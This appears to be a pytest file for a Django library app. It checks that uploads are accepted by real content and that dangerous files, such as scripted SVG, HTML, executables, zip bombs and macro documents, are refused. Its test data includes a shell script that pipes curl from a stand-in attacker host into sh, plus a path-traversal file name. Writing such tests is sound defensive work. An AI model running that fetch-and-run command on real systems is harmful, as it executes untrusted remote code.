"""Files shared in the library: accepted for what they are (their content, not their name),
refused with a clear message when they could harm whoever opens them, and never stored then.
"""

import html

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.test import RequestFactory
from django.urls import reverse
from django.utils import translation

from library.models import ExtractionStatus, Resource, ResourceFile
from library.uploads import (
    CSV,
    DOCX,
    JPEG,
    ODT,
    PDF,
    PNG,
    PPTX,
    XLSX,
    LibraryFileField,
    check_upload,
    display_name,
    download_name,
    store_file,
)
from tests.factories import ResourceFactory, verified_member
from tests.library import files

MB = 1024 * 1024


@pytest.fixture
def media(settings, tmp_path):
    """The uploaded files' folder, empty: what a test stores lands here."""
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored(folder) -> list:
    return [path for path in folder.rglob("*") if path.is_file()]


def refusal(name: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as refused:
        check_upload(files.upload(name, content))
    return refused.value


ALLOWED = [
    ("rapport.pdf", lambda: files.pdf_bytes(["Rapport annuel"]), PDF, "pdf"),
    ("guide.docx", lambda: files.docx_bytes(["Guide"]), DOCX, "docx"),
    ("guide.odt", lambda: files.odt_bytes(["Guide"]), ODT, "odt"),
    ("budget.xlsx", files.xlsx_bytes, XLSX, "xlsx"),
    ("atelier.pptx", files.pptx_bytes, PPTX, "pptx"),
    ("projets.csv", lambda: "pays;montant\nSénégal;250000\n".encode(), CSV, "csv"),
    ("carte.png", files.png_bytes, PNG, "png"),
    ("photo.jpeg", files.jpeg_bytes, JPEG, "jpg"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "make", "content_type", "extension"), ALLOWED)
def test_each_allowed_type_is_stored_under_a_random_name_with_its_real_extension(
    media, name, make, content_type, extension
):
    content = make()
    resource = ResourceFactory()

    resource_file = store_file(
        resource=resource, language="fr", uploaded=files.upload(name, content)
    )

    resource_file.refresh_from_db()
    assert resource_file.content_type == content_type
    assert resource_file.size == len(content)
    assert resource_file.original_name == name
    assert resource_file.downloads == 0
    # Stored under a name nobody chose, with the extension of what the file is.
    path = media / resource_file.file.name
    assert path.read_bytes() == content
    assert path.suffix == f".{extension}"
    assert path.stem not in name
    assert resource_file.file.name.startswith("library/")
    waits = content_type in {PDF, DOCX, ODT}
    assert resource_file.extraction == (
        ExtractionStatus.WAITING if waits else ExtractionStatus.NOT_APPLICABLE
    )


@pytest.mark.django_db
def test_the_content_decides_not_the_name(media):
    resource_file = store_file(
        resource=ResourceFactory(),
        language="en",
        uploaded=files.upload("rapport final.exe", files.pdf_bytes(["Rapport"]), "text/html"),
    )

    assert resource_file.content_type == PDF
    assert resource_file.file.name.endswith(".pdf")
    assert download_name(resource_file) == "rapport final.pdf"


def test_a_name_with_folders_and_control_characters_is_kept_clean():
    checked_name = files.upload("..\\..\\etc/pass\x07wd.csv", b"a,b\n")

    assert check_upload(checked_name).content_type == CSV
    assert display_name(checked_name) == "passwd.csv"


DANGEROUS = [
    ("dessin.svg", files.SVG_WITH_SCRIPT, "SVG"),
    ("rapport.pdf", files.HTML_PAGE, "HTML"),
    ("rapport.pdf", b"  \n<html><body>Rapport</body></html>", "HTML"),
    ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "Windows"),
    ("outil.docx", b"\x7fELF\x02\x01\x01\x00" + bytes(8), "Linux"),
    ("données.csv", b"#!/bin/sh\ncurl https://evil.example | sh\n", "script"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content", "recognised"), DANGEROUS)
def test_svg_html_and_programs_are_refused_naming_what_they_are_and_nothing_is_stored(
    media, name, content, recognised
):
    resource = ResourceFactory()

    with pytest.raises(ValidationError) as refused:
        store_file(resource=resource, language="fr", uploaded=files.upload(name, content))

    assert refused.value.code == "dangerous_type"
    message = refused.value.messages[0]
    assert recognised in message
    assert name in message
    assert not ResourceFile.objects.exists()
    assert stored(media) == []


def test_a_file_too_large_is_refused_with_its_size_and_the_limit(settings):
    settings.LIBRARY_UPLOAD_MAX_BYTES = 25 * MB

    refused = refusal("rapport.pdf", b"%PDF-1.4\n" + bytes(30 * MB))

    assert refused.code == "too_large"
    assert "30.0" in refused.messages[0].replace(",", ".")
    assert "25.0" in refused.messages[0].replace(",", ".")


def test_an_empty_file_is_refused():
    refused = refusal("vide.pdf", b"")

    assert refused.code == "empty"
    assert "vide.pdf" in refused.messages[0]


@pytest.mark.django_db
def test_a_zip_bomb_disguised_as_docx_is_refused_and_nothing_is_stored(media):
    bomb = files.zip_bomb_docx(201)  # 201 MB of zeros in under a megabyte
    assert len(bomb) < MB

    with pytest.raises(ValidationError) as refused:
        store_file(
            resource=ResourceFactory(), language="fr", uploaded=files.upload("guide.docx", bomb)
        )

    assert refused.value.code == "archive_too_large"
    with translation.override("en"):
        assert "zip bomb" in refused.value.messages[0]
    assert "201" in refused.value.messages[0]
    assert not ResourceFile.objects.exists()
    assert stored(media) == []


def test_an_archive_that_grows_too_many_times_is_refused_even_when_small_once_open():
    refused = refusal("guide.docx", files.zip_bomb_docx(20))

    assert refused.code == "archive_too_large"
    assert "100" in refused.messages[0]


def test_a_small_archive_compressing_well_is_no_bomb():
    content = files.zip_bytes(
        {"[Content_Types].xml": files.CONTENT_TYPES, "word/document.xml": bytes(500_000)}
    )

    assert check_upload(files.upload("court.docx", content)).content_type == DOCX


@pytest.mark.parametrize(
    ("name", "content", "code", "recognised"),
    [
        ("broken.docx", b"PK\x03\x04" + b"garbage" * 20, "broken_archive", "damaged"),
        (
            "macros.docx",
            files.zip_bytes(
                {
                    "[Content_Types].xml": files.CONTENT_TYPES,
                    "word/document.xml": b"<document/>",
                    "word/vbaProject.bin": b"\x00" * 64,
                }
            ),
            "macros",
            "macros",
        ),
        ("ancien.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64), "type_not_allowed", "old"),
        ("photos.zip", files.zip_bytes({"a.txt": b"a"}), "type_not_allowed", "zip archive"),
        (
            "tableur.ods",
            files.zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
            "type_not_allowed",
            "OpenDocument",
        ),
        ("image.gif", b"GIF89a" + bytes(16), "type_not_allowed", "GIF"),
        ("data.csv", b"pays,montant\nS\x00n\x00", "type_not_allowed", "PDF, DOCX"),
        ("flux.xml", b'<?xml version="1.0"?><feed/>', "dangerous_type", "XML"),
    ],
)
def test_other_types_are_refused_with_a_clear_message(name, content, code, recognised):
    refused = refusal(name, content)

    assert refused.code == code
    with translation.override("en"):
        assert recognised in refused.messages[0]


def test_a_csv_starting_with_mz_is_still_text():
    content = b"MZ,Mozambique\nSN,S\xc3\xa9n\xc3\xa9gal\n"

    assert check_upload(files.upload("pays.csv", content)).content_type == CSV


@pytest.mark.django_db
def test_one_file_per_language_of_a_resource(media):
    resource = ResourceFactory()
    store_file(resource=resource, language="fr", uploaded=files.upload("a.csv", b"a\n"))

    with pytest.raises(ValidationError) as refused:
        store_file(resource=resource, language="fr", uploaded=files.upload("b.csv", b"b\n"))

    assert refused.value.code == "language_taken"
    assert ResourceFile.objects.count() == 1
    assert len(stored(media)) == 1
    store_file(resource=resource, language="es", uploaded=files.upload("b.csv", b"b\n"))
    assert ResourceFile.objects.count() == 2


class ShareForm(forms.Form):
    file = LibraryFileField()


def multipart_request(content: bytes, name: str = "rapport.pdf"):
    """A request as Django reads it from the network, files and all."""
    request = RequestFactory().post("/", {"file": files.upload(name, content)})
    return request


def test_django_hands_a_file_of_the_limit_to_the_check_and_the_form_takes_it(settings):
    settings.LIBRARY_UPLOAD_MAX_BYTES = 25 * MB
    content = b"%PDF-1.4\n" + bytes(25 * MB - 9)
    request = multipart_request(content)

    form = ShareForm(request.POST, request.FILES)

    assert form.is_valid(), form.errors
    assert form.cleaned_data["file"].size == 25 * MB
    assert form.cleaned_data["file"].library_checked.content_type == PDF


def test_a_larger_file_reaches_the_form_which_says_it_is_too_large(settings):
    settings.LIBRARY_UPLOAD_MAX_BYTES = 25 * MB
    request = multipart_request(b"%PDF-1.4\n" + bytes(30 * MB))

    form = ShareForm(request.POST, request.FILES)

    assert not form.is_valid()
    assert form.errors.as_data()["file"][0].code == "too_large"


def test_beyond_the_cap_nothing_more_is_kept_yet_the_form_hears_the_full_size(settings):
    settings.FILE_UPLOAD_CAP_BYTES = 1 * MB
    settings.LIBRARY_UPLOAD_MAX_BYTES = 2 * MB
    request = multipart_request(b"%PDF-1.4\n" + bytes(3 * MB))

    upload = request.FILES["file"]
    assert upload.size == 3 * MB + 9
    assert upload.read() == b""  # dropped as it came, never written anywhere
    form = ShareForm(request.POST, request.FILES)
    assert not form.is_valid()
    assert form.errors.as_data()["file"][0].code == "too_large"


def test_the_field_says_what_it_takes(settings):
    settings.LIBRARY_UPLOAD_MAX_BYTES = 25 * MB
    field = ShareForm().fields["file"]

    assert "PDF" in str(field.help_text) and "25.0" in str(field.help_text).replace(",", ".")
    assert ".pdf" in field.widget.attrs["accept"]
    form = ShareForm({}, {"file": files.upload("dessin.svg", files.SVG_WITH_SCRIPT)})
    assert not form.is_valid()
    assert "SVG" in form.errors["file"][0]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("cap", "size"),
    [(None, 30 * MB), (2 * MB, 60 * MB)],  # read whole; beyond the cap of a request
)
def test_a_member_sharing_a_file_too_large_is_told_so_and_nothing_is_stored(
    client, settings, media, cap, size
):
    settings.LIBRARY_UPLOAD_MAX_BYTES = 25 * MB
    if cap:
        settings.FILE_UPLOAD_CAP_BYTES = cap
    client.force_login(verified_member())

    response = client.post(
        reverse("library:share"),
        {
            "title": "Rapport",
            "kind": "report",
            "file": files.upload("rapport.pdf", b"%PDF-1.4\n" + bytes(size)),
        },
    )

    assert response.status_code == 400
    message = response.context["form"].errors["file"][0]
    assert "rapport.pdf" in message and "25.0" in message.replace(",", ".")
    assert html.unescape(message) in html.unescape(response.content.decode())
    assert not Resource.objects.exists()
    assert stored(media) == []
